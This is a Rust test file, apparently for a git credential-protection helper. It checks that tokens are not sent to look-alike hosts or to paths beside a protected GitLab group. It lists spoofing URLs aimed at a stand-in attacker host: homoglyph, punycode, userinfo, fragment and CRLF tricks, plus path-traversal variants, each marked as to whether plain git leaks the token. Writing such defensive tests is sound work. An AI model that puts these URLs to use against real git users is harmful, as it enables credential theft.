//! URLs that look like the realm and are elsewhere.

use super::{Scene, Thief, Without};
use crate::harness::{Finished, REPOSITORY, Vault};

/// What becomes of the token without protection.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum ByItself {
    /// The attacker receives it.
    Leaks,
    /// git or libcurl refuses the URL, or sends what stands in it.
    Keeps,
}

use ByItself::{Keeps, Leaks};

/// `PORT` is the realm's own, where the attacker listens at another address.
pub(super) const HOSTS: [(&str, ByItself); 18] = [
    // A Cyrillic letter in the place of a Latin one, as it is written and as it is asked for.
    ("http://l\u{43e}calhost:PORT/gitlab-org/security/x.git", Leaks),
    ("http://xn--lcalhost-nbh:PORT/gitlab-org/security/x.git", Leaks),
    ("http://XN--lcalhost-NBH:PORT/gitlab-org/security/x.git", Leaks),
    ("http://localhost.evil.test:PORT/gitlab-org/security/x.git", Leaks),
    ("http://LocalHost.Evil.Test:PORT/gitlab-org/security/x.git", Leaks),
    ("http://localhost%2eevil.test:PORT/gitlab-org/security/x.git", Leaks),
    ("http://localhost.:PORT/gitlab-org/security/x.git", Leaks),
    ("http://localhost\u{3002}evil.test:PORT/gitlab-org/security/x.git", Leaks),
    ("http://\u{ff4c}ocalhost.evil.test:PORT/gitlab-org/security/x.git", Leaks),
    ("http://evil.test:PORT?@localhost:PORT/gitlab-org/security/x.git", Leaks),
    ("http://evil.test:PORT#@localhost:PORT/gitlab-org/security/x.git", Leaks),
    ("http://evil.test:PORT/http://localhost:PORT/gitlab-org/security/x.git", Leaks),
    ("http://evil.test:PORT/%0dhost=localhost:PORT/gitlab-org/security/x.git", Leaks),
    ("http://localhost@evil.test:PORT/gitlab-org/security/x.git", Keeps),
    ("http://localhost:PORT@evil.test:PORT/gitlab-org/security/x.git", Keeps),
    ("http://localhost:PORT\\@evil.test:PORT/gitlab-org/security/x.git", Keeps),
    ("http://localhost%3aPORT%2fgitlab-org%2fsecurity%2f@evil.test:PORT/x.git", Keeps),
    ("http://localhost%2fgitlab-org%2fsecurity%2f.evil.test:PORT/x.git", Keeps),
];

#[test]
fn a_host_that_looks_like_the_realms_gets_nothing() {
    let vault = Vault::lockbox();
    let scene = Scene::start(&vault);
    let at = format!("127.0.0.2:{}", scene.port());
    let Some(thief) = Thief::at(&at) else {
        println!("skipped: {at} is taken");
        return;
    };
    for (url, by_itself) in HOSTS {
        let script = format!(
            "export LC_ALL=C.UTF-8; for host in localhost.evil.test evil.test localhost. xn--lcalhost-nbh; do \
             git config --global --add http.curloptResolve $host:{port}:127.0.0.2; done; git ls-remote '{url}'",
            port = scene.port(),
            url = url.replace("PORT", scene.port()),
        );
        let finished = scene.unprotected(Without::Helper, &script);
        let (stolen, asked) = (thief.loot(scene.token()).len(), thief.asked());
        assert_eq!(if stolen > 0 { Leaks } else { Keeps }, by_itself, "{url}: {}", finished.stderr);
        thief.forget();
        let finished = scene.protected(&script);
        assert_eq!(thief.loot(scene.token()), [], "{url}");
        assert_eq!(tried(&thief, 0, &finished), asked > 0, "{url}: {}", finished.stderr);
        thief.forget();
    }
    assert_eq!(scene.group.sandbox.credentials_seen(), Vec::<String>::new());
}

/// Whether git asked the thief for more than what was not astray. Some of these git itself takes for the realm (a dot after the host,
/// `..%2f`): it asks the helper before it asks the server, and the helper alone keeps the token.
fn tried(thief: &Thief, not_astray: usize, finished: &Finished) -> bool {
    thief.asked() > not_astray || finished.stderr.contains("could not read Username")
}

/// On the realm's own server, and not in it.
pub(super) const PATHS: [&str; 9] = [
    "gitlab-org/security-evil/x.git",
    "gitlab-org/security.git",
    "gitlab-org/Security/x.git",
    "gitlab-org/security/../security-evil/x.git",
    "gitlab-org/security/%2e%2e/security-evil/x.git",
    "gitlab-org/security/..%2fsecurity-evil/x.git",
    "gitlab-org//security/x.git",
    "gitlab-org/security//x.git",
    "evil/..%2fgitlab-org/security/x.git",
];

#[test]
fn a_path_beside_the_realm_gets_nothing() {
    for path in PATHS {
        let vault = Vault::lockbox();
        let (control, thief) = (Thief::start(), Thief::start());
        // Both the realm's server and the attacker's place: a host with many tenants.
        let scene = Scene::start(&vault).on(thief.url());
        let script =
            |server: &str| format!("git ls-remote '{server}/{REPOSITORY}'; git ls-remote '{server}/{path}'");
        scene.unprotected(Without::Helper, &script(control.url()));
        let inside = |target: &str| target.starts_with(&format!("/{REPOSITORY}/info/refs"));
        assert!(control.loot(scene.token()).iter().any(|each| !inside(&each.target)), "{path}");
        let finished = scene.protected(&script(thief.url()));
        let loot = thief.loot(scene.token());
        assert!(!loot.is_empty() && loot.iter().all(|each| inside(&each.target)), "{path}: {loot:?}");
        assert!(tried(&thief, loot.len(), &finished), "{path}: {}", finished.stderr);
    }
}

/// What remains: git tells a helper the decoded path. Who names a place so is the realm's own server, or nobody.
#[test]
fn a_path_that_decodes_to_one_in_the_realm_is_taken_for_it() {
    let vault = Vault::lockbox();
    let thief = Thief::start();
    let scene = Scene::start(&vault).on(thief.url());
    scene.protected(&format!("git ls-remote '{}/gitlab-org%2fsecurity%2fx.git'", thief.url()));
    let loot = thief.loot(scene.token());
    assert!(loot.iter().any(|each| each.target.starts_with("/gitlab-org%2fsecurity%2fx.git/")), "{loot:?}");
}
